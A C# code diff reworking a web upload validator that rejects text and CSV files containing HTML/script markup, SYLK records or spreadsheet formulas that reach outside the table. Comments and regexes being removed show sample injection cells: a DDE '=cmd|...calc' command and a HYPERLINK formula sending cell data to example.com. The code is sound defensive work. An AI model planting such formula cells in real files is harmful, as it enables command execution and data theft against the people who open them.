@@ -1,5 +1,6 @@
 using System.Text;
 using System.Text.RegularExpressions;
+using System.Text.Unicode;
 
 namespace Matchmaking.Web.Files;
 
@@ -11,52 +12,66 @@ internal static partial class TextContent
 {
     private const int Beginning = 4096;
 
-    public static (FileType?, FileRefusal?) Read(ReadOnlySpan<byte> content, string extension)
+    public static (FileType?, FileRefusal?) Read(ReadOnlySpan<byte> content, string extension, FileWork work)
     {
-        var text =
-            content.StartsWith((ReadOnlySpan<byte>)[0xFF, 0xFE]) ? Encoding.Unicode.GetString(content)
-            : content.StartsWith((ReadOnlySpan<byte>)[0xFE, 0xFF]) ? Encoding.BigEndianUnicode.GetString(content)
-            : Encoding.Latin1.GetString(content);
-        // A byte above 7F is a letter in one charset or another, but none has letters among the control characters.
-        if (text.AsSpan().ContainsAny(Controls) || extension is not ("" or "txt" or "csv"))
+        if (extension is not ("" or "txt" or "csv"))
             return (null, FileRefusal.Type);
-        if (Markup().IsMatch(text.Length > Beginning ? text[..Beginning] : text))
-            return (null, FileRefusal.Active);
-        if (extension != "csv")
-            return (FileType.Txt, null);
-        return Command().IsMatch(text) || Call().IsMatch(text) || Sylk().IsMatch(text) ? (null, FileRefusal.Active) : (FileType.Csv, null);
+        foreach (var encoding in Encodings(content))
+        {
+            work.Spend(content.Length);
+            var text = encoding.GetString(content);
+            // A byte above 7F is a letter in one charset or another, but none has letters among the control characters.
+            if (text.AsSpan().ContainsAny(Controls))
+                return (null, FileRefusal.Type);
+            var beginning = text.Length > Beginning ? text[..Beginning] : text;
+            if (Page().IsMatch(beginning) || (extension == "csv" && (IsSylk(text) || TableCells.ReachOut(text, work))))
+                return (null, FileRefusal.Active);
+        }
+        return (extension == "csv" ? FileType.Csv : FileType.Txt, null);
     }
+
+    /// <summary>
+    /// As which letters programs read it: what is not UTF-8 is one thing to a Chinese reader and another one to an Azerbaijani one.
+    /// </summary>
+    private static Encoding[] Encodings(ReadOnlySpan<byte> content) =>
+        content.StartsWith((ReadOnlySpan<byte>)[0xFF, 0xFE]) ? [Encoding.Unicode]
+        : content.StartsWith((ReadOnlySpan<byte>)[0xFE, 0xFF]) ? [Encoding.BigEndianUnicode]
+        : Utf8.IsValid(content) ? [Encoding.UTF8]
+        : [Encoding.Latin1, Encoding.GetEncoding("GB18030")];
 
     private static ReadOnlySpan<char> Controls =>
         "\u0000\u0001\u0002\u0003\u0004\u0005\u0006\u0007\u0008\u000E\u000F\u0010\u0011\u0012\u0013\u0014\u0015\u0016\u0017\u0018\u0019"
         + "\u001C\u001D\u001E\u001F\u007F";
 
-    [GeneratedRegex(
-        @"^[\s\u00EF\u00BB\u00BF\uFEFF]*<|<(?:!doctype|html|script|svg|iframe|body|head)\b",
-        RegexOptions.IgnoreCase | RegexOptions.CultureInvariant | RegexOptions.NonBacktracking
-    )]
-    private static partial Regex Markup();
+    private const RegexOptions Options = RegexOptions.IgnoreCase | RegexOptions.CultureInvariant | RegexOptions.NonBacktracking;
 
-    /// <summary>A cell that asks another program for its value: <c>=cmd|'/C calc'!A0</c>.</summary>
-    [GeneratedRegex(@"(?:^|[,;\t\r\n""])[ ""]*[=+@-][^,;\t\r\n|]*\|[^\n!]*!", RegexOptions.CultureInvariant | RegexOptions.NonBacktracking)]
-    private static partial Regex Command();
-
-    /// <summary>A cell whose formula reaches out of the table: <c>=HYPERLINK("http://example.com/?"&amp;A1)</c>.</summary>
+    /// <summary>As browsers tell a page by how it begins (WHATWG, MIME Sniffing 7.1), and whole marks of what runs further down.</summary>
     [GeneratedRegex(
-        @"(?:(?:^|[,;\t\r\n])[ ]*[=+@-][^,;\t\r\n]*|""[ ""]*[=+@-](?:[^""]|"""")*)"
-            + @"\b(?:(?:HYPERLINK|WEBSERVICE|IMPORT(?:XML|DATA|FEED|HTML|RANGE)|RTD|SQL\.REQUEST)[ ]*"
-            + @"|IMAGE|EXEC|CALL|REGISTER(?:\.ID)?|DDE)\(",
-        RegexOptions.IgnoreCase | RegexOptions.CultureInvariant | RegexOptions.NonBacktracking
+        @"^[\s\uFEFF\u00EF\u00BB\u00BF]*<(?:!--|\?xml|!doctype|(?:html|head|script|iframe|svg|h1|div|font|table|style|title|body|br|meta"
+            + @"|img|object|embed|hta:application)(?:\s+[a-z:-]+\s*=[^<]*|\s*/?)(?:>|$))"
+            + @"|<(?:!doctype\s+html|(?:html|script|svg|iframe)(?:\s[^<>]*)?>)",
+        Options
     )]
-    private static partial Regex Call();
+    private static partial Regex Page();
 
     /// <summary>
-    /// A table of another kind, which Excel opens by its beginning whatever its name is, with formulas and macros. A table whose first
-    /// column is called "ID" has no line of its cells.
+    /// A table of another kind, which Excel opens by its beginning whatever its name is, with formulas and macros: it has cells, names or
+    /// links. A table whose first column is called "ID" has no line of them.
     /// </summary>
-    [GeneratedRegex(
-        @"^[\s\u00EF\u00BB\u00BF\uFEFF]*ID;(?:.|\n)*[\r\n][ \t]*C;",
-        RegexOptions.IgnoreCase | RegexOptions.CultureInvariant | RegexOptions.NonBacktracking
-    )]
-    private static partial Regex Sylk();
+    private static bool IsSylk(ReadOnlySpan<char> text)
+    {
+        text = text.TrimStart(" \t\r\n\uFEFF\u00EF\u00BB\u00BF");
+        if (!text.StartsWith("ID;", StringComparison.OrdinalIgnoreCase))
+            return false;
+        foreach (var line in text.EnumerateLines())
+        {
+            var bare = line.TrimStart(" \t");
+            foreach (var record in bare is ['C' or 'c' or 'N' or 'n', ..] ? SylkRecords : [])
+                if (bare.StartsWith(record, StringComparison.OrdinalIgnoreCase))
+                    return true;
+        }
+        return text.StartsWith("ID;PWXL", StringComparison.Ordinal);
+    }
+
+    private static readonly string[] SylkRecords = ["C;", "NN;", "NE;", "NU;", "NL;"];
 }
